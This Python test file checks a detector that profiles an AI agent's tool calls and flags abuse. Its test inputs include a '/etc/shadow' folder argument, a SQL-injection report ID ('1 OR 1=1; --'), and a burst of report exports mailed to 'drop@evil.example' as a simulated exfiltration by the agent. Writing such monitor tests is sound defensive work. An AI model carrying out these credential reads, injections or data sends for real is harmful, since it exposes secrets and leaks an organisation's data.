"""The tool-invocation surface of the APD, fed through ingest as the pipeline feeds it: argument
profiles and the sequence/volume model learnt in the window, judged after it. Each abuse case has
a benign twin that must stay silent."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone
from typing import Any

from runward.core.contracts import Attribution, RawLlmEvent, Signal, SourceRef, Surface
from services.ingest import domain
from services.profiler import tools
from services.profiler.apd import ApdState, Policy, fold

T0 = datetime(2026, 11, 30, 9, tzinfo=timezone.utc)
WINDOW = timedelta(hours=1)
POLICY = Policy(window_override_s=int(WINDOW.total_seconds()), drift_correlation_s=3600)
SRC = SourceRef(topic="runward.raw.llm", partition=0, offset=1)
AGENT = "agents/reporter"


class Agent:
    """One Deployment's APD, fed tool calls through ingest's enrichment."""

    def __init__(self) -> None:
        self.state: ApdState | None = None
        self.registry: dict[str, Any] = {}
        self.n = 0

    def call(self, ts: datetime, tool: str, **arguments: Any) -> list[Signal]:
        self.n += 1
        raw = RawLlmEvent(
            event_id=f"call-{self.n}",
            ts=ts,
            operation="execute_tool",
            attribution=Attribution(deployment=AGENT),
            mcp_server="reports",
            tool_name=tool,
            tool_arguments=arguments,
        )
        signals: list[Signal] = []
        for event in domain.enrich_llm(self.registry, raw, SRC):
            before = self.state.model_dump() if self.state is not None else None
            result = fold(self.state, event, POLICY)
            assert (self.state.model_dump() if self.state is not None else None) == before, "fold changed its input"
            self.state = result.state
            signals += result.signals
        return [s for s in signals if s.surface is Surface.TOOL]

    def arguments(self, ts: datetime, tool: str, **arguments: Any) -> list[Signal]:
        return [s for s in self.call(ts, tool, **arguments) if "argument" in s.evidence]


def learnt_agent() -> Agent:
    """An hour of normal work: list, export (with sane limits, under /data/reports), mail colleagues."""
    agent = Agent()
    ts = T0
    for day in range(30):
        ts += timedelta(seconds=100)
        agent.call(ts, "list_reports", folder="/data/reports/2026", limit=10 + day % 5 * 10)
        ts += timedelta(seconds=10)
        agent.call(ts, "export_report", report_id=str(1000 + day), format=["csv", "pdf"][day % 2])
        ts += timedelta(seconds=10)
        agent.call(ts, "send_email", to=f"team{day % 3}@corp.example", subject=f"Report {1000 + day} ready")
    return agent


AFTER = T0 + WINDOW + timedelta(minutes=5)


def test_parameter_abuse_names_the_argument_and_redacts_the_value() -> None:
    agent = learnt_agent()
    [huge] = agent.arguments(AFTER, "list_reports", folder="/data/reports/2026", limit=1_000_000)
    assert huge.evidence["argument"] == "limit" and "numeric_range" in huge.evidence["checks"]
    assert "1000000" not in huge.model_dump_json() and huge.evidence["value"] == "[REDACTED]"
    [shadow] = agent.arguments(AFTER + timedelta(seconds=30), "list_reports", folder="/etc/shadow", limit=10)
    assert shadow.evidence["argument"] == "folder" and "path_prefix" in shadow.evidence["checks"]
    assert "/etc/shadow" not in shadow.model_dump_json()
    [sqli] = agent.arguments(AFTER + timedelta(seconds=60), "export_report", report_id="1 OR 1=1; --", format="csv")
    assert sqli.evidence["argument"] == "report_id" and "shape" in sqli.evidence["checks"]
    assert sqli.techniques[0].uid == "AML.T0053" and sqli.behaviour is not None


def test_parameter_abuse_benign_twin_is_silent() -> None:
    agent = learnt_agent()
    ts = AFTER
    # Values the window never saw exactly, but inside the learnt profile: no exact-match alarms.
    assert agent.call(ts, "list_reports", folder="/data/reports/2025", limit=45) == []
    assert agent.call(ts + timedelta(seconds=10), "export_report", report_id="1042", format="pdf") == []
    assert agent.call(ts + timedelta(seconds=20), "send_email", to="team2@corp.example", subject="Report 1042") == []


def test_sequence_abuse_read_burst_then_send_to_a_new_destination_is_exfiltration() -> None:
    agent = learnt_agent()
    signals: list[Signal] = []
    ts = AFTER
    signals += agent.call(ts, "list_reports", folder="/data/reports/2026", limit=20)
    for i in range(30):  # only baseline tools, baseline arguments
        ts += timedelta(seconds=3)
        signals += agent.call(ts, "export_report", report_id=str(1000 + i % 30), format="csv")
    signals += agent.call(ts + timedelta(seconds=3), "send_email", to="drop@evil.example", subject="Report 1001 ready")
    titles = [s.title for s in signals]
    assert any(t.startswith("tool call burst") for t in titles)
    assert any(
        t.startswith("tool sequence outside APD profile: reports/export_report -> reports/export_report")
        for t in titles
    )
    [exfil] = [s for s in signals if s.title.startswith("exfiltration via tool invocation")]
    assert exfil.techniques[0].uid == "AML.T0086" and exfil.severity == 4
    assert "evil.example" not in exfil.model_dump_json()


def test_sequence_abuse_benign_twin_is_silent() -> None:
    agent = learnt_agent()
    ts = AFTER
    signals: list[Signal] = []
    for i in range(3):  # the window's own rhythm and destinations
        ts += timedelta(seconds=100)
        signals += agent.call(ts, "list_reports", folder="/data/reports/2026", limit=30)
        signals += agent.call(ts + timedelta(seconds=10), "export_report", report_id=str(1010 + i), format="csv")
        signals += agent.call(ts + timedelta(seconds=20), "send_email", to="team1@corp.example", subject="Report")
    assert signals == []


def test_robust_bounds_widen_quantiles_and_ignore_a_single_outlier() -> None:
    low, high = tools.robust_bounds([10, 20, 30, 40, 50] * 20 + [5000])
    assert low < 10 and 50 < high < 5000


def test_an_id_new_on_every_call_is_not_an_enum_but_a_repeating_value_is() -> None:
    # Found by the scenario library (scenarios/library/benign-steady): twelve order ids, each seen
    # once, fit under ENUM_MAX and were judged an enum, so every new order was a signal.
    ids, formats = tools.ArgProfile(), tools.ArgProfile()
    for n in range(12):
        tools._learn(ids, str(4400 + 7 * n))
        tools._learn(formats, ["csv", "pdf", "xlsx"][n % 3])
    assert tools.deviations(ids, "4693") == []
    assert [check for check, _ in tools.deviations(formats, "exe")] == ["enum"]


def test_a_session_delivered_out_of_order_makes_no_transition_but_an_ordered_new_one_does() -> None:
    # Found by the scenario library (benign-reordered-delivery): calls folded in arrival order made
    # transitions the agent never made (send -> export) when delivery reordered a routine session.
    agent = learnt_agent()
    ts = AFTER + timedelta(minutes=20)
    late_first = [
        (ts + timedelta(seconds=20), "send_email", {"to": "team1@corp.example", "subject": "Report"}),
        (ts + timedelta(seconds=10), "export_report", {"report_id": "1011", "format": "csv"}),
        (ts, "list_reports", {"folder": "/data/reports/2026", "limit": 30}),
    ]
    assert [s for when, tool, args in late_first for s in agent.call(when, tool, **args)] == []
    # In order, inside one session, a transition the window never saw is still a signal.
    later = ts + timedelta(minutes=1)
    [odd] = agent.call(later, "export_report", report_id="1012", format="csv")
    assert odd.title.endswith("reports/send_email -> reports/export_report")


def test_a_redelivered_call_is_folded_once() -> None:
    # Found by the scenario library (benign-restart under load): Kafka redelivered a send_email and
    # the second copy made the transition send_email -> send_email.
    agent = learnt_agent()
    ts = AFTER + timedelta(minutes=30)
    raw = RawLlmEvent(
        event_id="once",
        ts=ts,
        operation="execute_tool",
        attribution=Attribution(deployment=AGENT),
        mcp_server="reports",
        tool_name="send_email",
        tool_arguments={"to": "team1@corp.example", "subject": "Report"},
    )
    [event] = domain.enrich_llm(agent.registry, raw, SRC)
    first = fold(agent.state, event, POLICY)
    again = fold(first.state, event, POLICY)
    assert [s for s in again.signals if s.surface is Surface.TOOL] == []
    assert again.state.tool_profile.recent.count((ts, "reports/send_email")) == 1
